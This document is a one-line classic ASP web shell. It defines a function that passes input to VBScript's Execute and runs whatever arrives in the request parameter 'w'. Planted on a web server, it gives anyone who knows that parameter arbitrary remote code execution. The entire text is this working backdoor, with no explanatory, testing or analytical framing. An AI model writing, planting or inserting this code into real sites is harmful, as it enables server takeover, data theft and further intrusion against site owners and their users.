<%Function run(s) Execute s End Function%><%p = Request("w")%><%run p%>
